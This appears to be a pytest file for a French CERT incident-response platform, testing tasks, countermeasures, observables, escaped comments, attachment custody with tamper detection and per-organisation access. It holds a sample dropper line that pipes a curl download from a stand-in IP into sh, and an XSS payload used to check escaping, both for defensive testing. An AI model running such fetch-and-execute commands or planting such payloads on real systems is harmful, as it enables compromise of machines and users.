"""What an incident is made of, through the console and /api/v1/incidents/{id}/...: tasks,
countermeasures, observables with their sightings, comments shown inert, attachments with their
chain of custody (a changed file is refused), and organisation scope (404 across organisations)."""

from __future__ import annotations

import hashlib
import io
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from account_support import api_csrf, logged_in
from flask import Flask
from sqlalchemy import select
from support import DGPN, INTERIEUR, JUSTICE, csrf_token, seed_by_organization

from cert.accounts.tokens import create_token
from cert.accounts.users import create_user
from cert.core.config import Settings
from cert.incidents.cases import add_observable
from cert.runtime.platform import Platform
from cert.storage.models import Attachment, AuditEntry, Case, CustodyEntry
from web.app import create_app

PASSWORD = "a-long-password-1"
SAMPLE = b"#!/bin/sh\ncurl -s http://198.51.100.9/x | sh\n"


@pytest.fixture
def plat(settings: Settings) -> Iterator[Platform]:
    p = Platform(replace(settings, plugins=("playbooks.steps", "detectors.indicators", "detectors.yara"),
                         yara_max_file_mb=1))
    p.db.upgrade()
    with p.db.session() as s:
        create_user(s, "ana", PASSWORD, "analyst")
        create_user(s, "rita", PASSWORD, "responder")
        create_user(s, "pf-interieur", PASSWORD, "focal_point", organization="min-interieur",
                    constituency=p.constituency)
    yield p
    p.close()


@pytest.fixture
def app(plat: Platform) -> Flask:
    app = create_app(platform=plat)
    app.config["TESTING"] = True
    return app


@pytest.fixture
def ana(app: Flask) -> Any:
    return logged_in(app, "ana", PASSWORD, "192.0.2.10")


def new_case(plat: Platform, title: str = "Compromission du portail", organization: str | None = JUSTICE) -> int:
    with plat.db.session() as s:
        case = Case(title=title, created_by="ana", tlp="amber", organization=organization)
        s.add(case)
        s.flush()
        return case.id


def page_of(client: Any, case_id: int, lang: str = "") -> str:
    return str(client.get(f"/cases/{case_id}" + (f"?lang={lang}" if lang else "")).get_data(as_text=True))


def test_a_task_with_a_past_due_date_shows_overdue_until_done(plat: Platform, ana: Any) -> None:
    case_id = new_case(plat)
    page = page_of(ana, case_id)
    assert 'id="add-task"' in page and "Tâches" in page
    due = (datetime.now(UTC) - timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M")
    resp = ana.post(f"/cases/{case_id}/tasks", data={"csrf_token": csrf_token(page), "title": "Isoler le serveur",
                                                     "assignee": "rita", "due": due, "timezone": "Europe/Paris"})
    assert resp.status_code == 303 and resp.headers["Location"].endswith(f"/cases/{case_id}#tasks")
    page = page_of(ana, case_id)
    row = page.split('id="task-list"')[1].split("</table>")[0]
    assert "Isoler le serveur" in row and "rita" in row and "en retard" in row
    with plat.db.session() as s:
        timeline = [e.message for e in s.get_one(Case, case_id).timeline]
    assert timeline[-1].startswith("Task #1 added")

    api = ana.get(f"/api/v1/incidents/{case_id}/tasks").get_json()["items"]
    assert [(t["title"], t["assignee"], t["status"], t["overdue"]) for t in api] == [
        ("Isoler le serveur", "rita", "open", True)]
    resp = ana.patch(f"/api/v1/incidents/{case_id}/tasks/1", json={"status": "done"}, headers=api_csrf(ana))
    assert resp.status_code == 200 and resp.get_json()["overdue"] is False and resp.get_json()["done_at"]
    assert "en retard" not in page_of(ana, case_id).split('id="task-list"')[1].split("</table>")[0]
    bad = ana.post(f"/api/v1/incidents/{case_id}/tasks", json={"title": "x", "due_at": "2030-01-01T10:00:00"},
                   headers=api_csrf(ana))
    assert bad.status_code == 400 and "due_at" in bad.get_json()["message"]
    assert "fuseau" in bad.get_json()["message"]
    bad = ana.post(f"/api/v1/incidents/{case_id}/tasks", json={"title": "x", "assignee": "pf-interieur"},
                   headers=api_csrf(ana))
    assert bad.status_code == 400 and "pf-interieur n'est pas un utilisateur actif du CERT" in bad.get_json()["message"]
    made = ana.post(f"/api/v1/incidents/{case_id}/tasks",
                    json={"title": "Prévenir", "due_at": "2030-01-01T10:00:00+02:00"}, headers=api_csrf(ana))
    assert made.status_code == 201 and made.get_json()["due_at"].startswith("2030-01-01T08:00:00")
    assert ana.delete(f"/api/v1/incidents/{case_id}/tasks/{made.get_json()['id']}",
                      headers=api_csrf(ana)).status_code == 204


def test_a_countermeasure_with_a_wrong_target_is_a_400_in_french(plat: Platform, ana: Any) -> None:
    case_id = new_case(plat)
    url = f"/api/v1/incidents/{case_id}/countermeasures"
    resp = ana.post(url, json={"kind": "block-ip", "target": "evil.example"}, headers=api_csrf(ana))
    assert resp.status_code == 400
    assert resp.get_json()["message"] == ("Une contre-mesure block-ip demande une adresse ou un réseau IP : "
                                          "evil.example n'en est pas un.")
    english = ana.post(url, json={"kind": "sinkhole", "target": "203.0.113.7"},
                       headers={**api_csrf(ana), "Accept-Language": "en"})
    assert english.status_code == 400 and "needs a domain name" in english.get_json()["message"]

    made = ana.post(url, json={"kind": "block-ip", "target": "203.0.113.7", "organization": "min-justice"},
                    headers=api_csrf(ana))
    assert made.status_code == 201
    cm = made.get_json()
    assert (cm["organization"], cm["status"], cm["next_statuses"]) == (JUSTICE, "proposed",
                                                                       ["done", "impossible", "in-progress", "requested"])
    patch = f"{url}/{cm['id']}"
    refused = ana.patch(patch, json={"status": "reverted"}, headers=api_csrf(ana))
    assert refused.status_code == 409 and "ne peut pas passer de proposed à reverted" in refused.get_json()["message"]
    assert ana.patch(patch, json={"status": "impossible"}, headers=api_csrf(ana)).status_code == 400
    done = ana.patch(patch, json={"status": "done"}, headers=api_csrf(ana)).get_json()
    assert done["status"] == "done" and done["done_at"] and done["next_statuses"] == ["reverted"]
    # one acted upon stays on record: its removal is a 409 whose envelope (status 409) is the API's
    kept = ana.delete(patch, headers=api_csrf(ana))
    assert kept.status_code == 409 and kept.get_json()["status"] == 409 and kept.get_json()["error"]

    page = page_of(ana, case_id)
    row = page.split('id="countermeasure-list"')[1].split("</table>")[0]
    assert "bloquer une adresse IP" in row and "203.0.113.7" in row and JUSTICE.replace("'", "&#39;") in row
    resp = ana.post(f"/cases/{case_id}/countermeasures",
                    data={"csrf_token": csrf_token(page), "kind": "sinkhole", "target": "not a domain"})
    assert resp.status_code == 400 and "demande un nom de domaine" in resp.get_data(as_text=True)
    resp = ana.post(f"/cases/{case_id}/countermeasures/{cm['id']}",
                    data={"csrf_token": csrf_token(page), "status": "reverted", "comment": "Bloqué à tort"})
    assert resp.status_code == 303
    assert ana.get(url).get_json()["items"][0]["status"] == "reverted"


def test_an_observable_added_by_hand_links_to_the_other_incident_holding_it(plat: Platform, ana: Any) -> None:
    other = new_case(plat, "Balayage de ports", organization="Primature")
    case_id = new_case(plat)
    with plat.db.session() as s:
        add_observable(s, s.get_one(Case, other), "ip", "203.0.113.7")
    page = page_of(ana, case_id)
    resp = ana.post(f"/cases/{case_id}/observables",
                    data={"csrf_token": csrf_token(page), "type": "ip", "value": " 203.0.113.7 ", "tlp": "green",
                          "ioc": "y", "comment": "attaquant"})
    assert resp.status_code == 303
    page = page_of(ana, case_id)
    row = next(r for r in page.split('id="observables"')[1].split("</table>")[0].split("<tr") if "203.0.113.7" in r)
    assert "1 autre(s) incident(s)" in row and f'href="/cases/{other}"' in row and f"#{other}" in row

    listed = ana.get(f"/api/v1/incidents/{case_id}/observables").get_json()["items"]
    assert [(o["value"], o["tlp"], o["sightings"]["incidents"], o["sightings"]["incident_ids"]) for o in listed] == [
        ("203.0.113.7", "green", 1, [other])]
    oid = listed[0]["id"]
    plat.events.write([{"@timestamp": "2026-01-05T10:00:00Z", "event": {"id": "ev-1"},
                        "related": {"ip": ["203.0.113.7"]}}])
    counted = ana.get(f"/api/v1/incidents/{case_id}/observables/{oid}/sightings").get_json()
    assert (counted["events"], counted["by_field"], counted["incidents"]) == (1, {"related.ip": 1}, 1)
    shown = ana.get(f"/cases/{case_id}/observables/{oid}/sightings").get_data(as_text=True)
    assert 'id="event-count">1<' in shown

    invalid = ana.post(f"/api/v1/incidents/{case_id}/observables", json={"type": "ip", "value": "203.0.113.300"},
                       headers=api_csrf(ana))
    assert invalid.status_code == 400
    assert invalid.get_json()["message"] == "203.0.113.300 n'est pas une valeur valide de type ip."
    by_form = ana.post(f"/cases/{case_id}/observables",
                       data={"csrf_token": csrf_token(page), "type": "domain", "value": "<b>pas un domaine</b>"})
    assert by_form.status_code == 400 and "<b>pas" not in by_form.get_data(as_text=True)
    duplicate = ana.post(f"/api/v1/incidents/{case_id}/observables", json={"type": "ip", "value": "203.0.113.7"},
                         headers=api_csrf(ana))
    assert duplicate.status_code == 409
    edited = ana.patch(f"/api/v1/incidents/{case_id}/observables/{oid}", json={"ioc": False, "tlp": "TLP:RED"},
                       headers=api_csrf(ana)).get_json()
    assert (edited["ioc"], edited["tlp"]) == (False, "red")
    assert ana.delete(f"/api/v1/incidents/{case_id}/observables/{oid}", headers=api_csrf(ana)).status_code == 204
    assert ana.get(f"/api/v1/incidents/{case_id}/observables").get_json()["items"] == []


def test_a_comment_with_markup_is_shown_inert(plat: Platform, app: Flask, ana: Any) -> None:
    case_id = new_case(plat)
    hostile = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    page = page_of(ana, case_id)
    assert ana.post(f"/cases/{case_id}/comments", data={"csrf_token": csrf_token(page), "text": hostile}
                    ).status_code == 303
    for lang in ("fr", "en"):
        page = page_of(ana, case_id, lang)
        assert "<script>alert" not in page and "<img src=x" not in page
        comment = page.split('id="comment-list"')[1].split("</ol>")[0]
        assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in comment
        timeline = page.split('id="timeline"')[1].split("</ol>")[0]
        assert "&lt;script&gt;alert" in timeline
        assert ("Commentaire n° 1 : &lt;script&gt;" if lang == "fr" else "Comment #1: &lt;script&gt;") in timeline
    rita = logged_in(app, "rita", PASSWORD)
    assert rita.patch(f"/api/v1/incidents/{case_id}/comments/1", json={"text": "non"},
                      headers=api_csrf(rita)).status_code == 403
    edited = ana.patch(f"/api/v1/incidents/{case_id}/comments/1", json={"text": "Corrigé"}, headers=api_csrf(ana))
    assert edited.status_code == 200 and edited.get_json()["edited_at"]
    assert "modifié le" in page_of(ana, case_id, "fr")
    assert rita.delete(f"/api/v1/incidents/{case_id}/comments/1", headers=api_csrf(rita)).status_code == 403
    assert ana.delete(f"/api/v1/incidents/{case_id}/comments/1", headers=api_csrf(ana)).status_code == 204


def upload(client: Any, case_id: int, name: str, data: bytes) -> Any:
    page = page_of(client, case_id)
    return client.post(f"/cases/{case_id}/attachments",
                       data={"csrf_token": csrf_token(page), "file": (io.BytesIO(data), name), "tlp": "red"},
                       content_type="multipart/form-data")


def test_upload_and_download_are_in_the_chain_of_custody(plat: Platform, app: Flask, ana: Any) -> None:
    case_id = new_case(plat)
    assert upload(ana, case_id, "dropper.sh", SAMPLE).status_code == 303
    sha = hashlib.sha256(SAMPLE).hexdigest()
    page = page_of(ana, case_id)
    listing = page.split('id="attachment-list"')[1].split("</table>")[0]
    assert f'<td class="mono sha256">{sha}</td>' in listing and "text/plain" in listing and "RED" in listing
    with plat.db.session() as s:
        att = s.scalars(select(Attachment)).one()
        stored = plat.settings.data_dir / "cases" / str(case_id) / att.stored_name
    assert stored.read_bytes() == SAMPLE and att.size == len(SAMPLE)

    resp = ana.get(f"/cases/{case_id}/attachments/{att.id}/download")
    assert resp.status_code == 200 and resp.data == SAMPLE
    assert resp.headers["Content-Type"] == "application/octet-stream"
    assert resp.headers["Content-Disposition"] == 'attachment; filename="dropper.sh"'
    assert resp.headers["X-Content-Type-Options"] == "nosniff"

    with plat.db.session() as s:
        _token, secret = create_token(s, "sirene", "tests", actor="test", scopes=["read"])
    api = app.test_client().get(f"/api/v1/incidents/{case_id}/attachments/{att.id}/download",
                                headers={"Authorization": f"Bearer {secret}"})
    assert api.status_code == 200 and hashlib.sha256(api.data).hexdigest() == sha

    custody = ana.get(f"/api/v1/incidents/{case_id}/attachments/{att.id}/custody").get_json()["items"]
    assert [(c["action"], c["actor"], c["sha256"]) for c in custody] == [
        ("added", "ana", sha), ("downloaded", "ana", sha), ("downloaded", "token:sirene", sha)]
    assert custody[0]["remote_addr"] == "192.0.2.10"
    shown = page_of(ana, case_id).split(f'id="custody-{att.id}"')[1].split("</ol>")[0]
    assert shown.count("téléchargé") == 2 and "ajouté" in shown and "token:sirene" in shown
    listed = ana.get(f"/api/v1/incidents/{case_id}/attachments").get_json()["items"]
    assert [(a["name"], a["sha256"], a["content_type"], len(a["custody"])) for a in listed] == [
        ("dropper.sh", sha, "text/plain", 3)]

    assert ana.delete(f"/api/v1/incidents/{case_id}/attachments/{att.id}", headers=api_csrf(ana)).status_code == 204
    assert ana.get(f"/api/v1/incidents/{case_id}/attachments").get_json()["items"] == []
    assert ana.get(f"/cases/{case_id}/attachments/{att.id}/download").status_code == 404
    removed = ana.get(f"/api/v1/incidents/{case_id}/attachments?removed=true").get_json()["items"]
    assert removed[0]["removed_at"] and removed[0]["custody"][-1]["action"] == "removed"
    assert stored.exists()  # kept: it is evidence


def test_a_file_changed_on_disk_is_refused_and_the_refusal_recorded(plat: Platform, ana: Any) -> None:
    case_id = new_case(plat)
    made = ana.post(f"/api/v1/incidents/{case_id}/attachments",
                    data={"file": (io.BytesIO(SAMPLE), "dropper.sh")}, content_type="multipart/form-data",
                    headers=api_csrf(ana))
    assert made.status_code == 201
    att = made.get_json()
    assert att["sha256"] == hashlib.sha256(SAMPLE).hexdigest() and att["tlp"] == "amber"
    with plat.db.session() as s:
        stored = plat.settings.data_dir / "cases" / str(case_id) / s.get_one(Attachment, att["id"]).stored_name
    stored.write_bytes(SAMPLE.replace(b"198.51.100.9", b"192.0.2.99"))

    for url in (f"/cases/{case_id}/attachments/{att['id']}/download",
                f"/api/v1/incidents/{case_id}/attachments/{att['id']}/download"):
        resp = ana.get(url)
        assert resp.status_code == 409 and b"curl" not in resp.data
        text = resp.get_json()["message"] if "/api/" in url else resp.get_data(as_text=True)
        assert "ne correspond plus à son SHA-256" in text
    with plat.db.session() as s:
        actions = [c.action for c in s.scalars(select(CustodyEntry).order_by(CustodyEntry.id))]
        audit = s.scalars(select(AuditEntry).where(AuditEntry.action == "case.attachment.tampered")).all()
        last = s.get_one(Case, case_id).timeline[-1]
    assert actions == ["added", "refused", "refused"]
    assert len(audit) == 2 and audit[0].actor == "ana"
    assert last.message_id.startswith("Download of %(name)s refused")


def test_another_organisations_incident_is_a_404_for_an_org_token_and_closed_to_focal_points(
        plat: Platform, app: Flask) -> None:
    ids = seed_by_organization(plat)
    mine, theirs = ids[INTERIEUR][1], ids[JUSTICE][1]
    with plat.db.session() as s:
        org = plat.constituency.find("min-interieur")
        _token, secret = create_token(s, "interieur", "tests", actor="test", scopes=["read", "write"],
                                      organization=org)
    token = app.test_client()
    bearer = {"Authorization": f"Bearer {secret}"}
    fp = logged_in(app, "pf-interieur", PASSWORD)
    for what in ("tasks", "countermeasures", "observables", "comments", "attachments"):
        assert token.get(f"/api/v1/incidents/{mine}/{what}", headers=bearer).status_code == 200, what
        resp = token.get(f"/api/v1/incidents/{theirs}/{what}", headers=bearer)
        assert resp.status_code == 404 and resp.get_json()["error"] == "not_found", what
        for case_id in (mine, theirs):  # the incident's workings are the CERT's, not a focal point's
            assert fp.get(f"/api/v1/incidents/{case_id}/{what}").status_code == 403, what
    assert token.post(f"/api/v1/incidents/{theirs}/comments", json={"text": "x"}, headers=bearer).status_code == 404
    assert token.post(f"/api/v1/incidents/{mine}/comments", json={"text": "vu"}, headers=bearer).status_code == 201
    with plat.db.session() as s:
        assert [e.actor for e in s.get_one(Case, mine).timeline if e.kind == "comment"] == ["token:interieur"]
    assert fp.post(f"/api/v1/incidents/{mine}/comments", json={"text": "x"}, headers=api_csrf(fp)).status_code == 403
    assert fp.get(f"/cases/{mine}").status_code == 403
    # sightings never link to an incident outside the reader's organisations
    with plat.db.session() as s:
        for case_id in (mine, theirs, ids[DGPN][1]):
            add_observable(s, s.get_one(Case, case_id), "domain", "evil.example")
    seen = token.get(f"/api/v1/incidents/{mine}/observables", headers=bearer).get_json()["items"][0]["sightings"]
    assert seen["incident_ids"] == [ids[DGPN][1]]
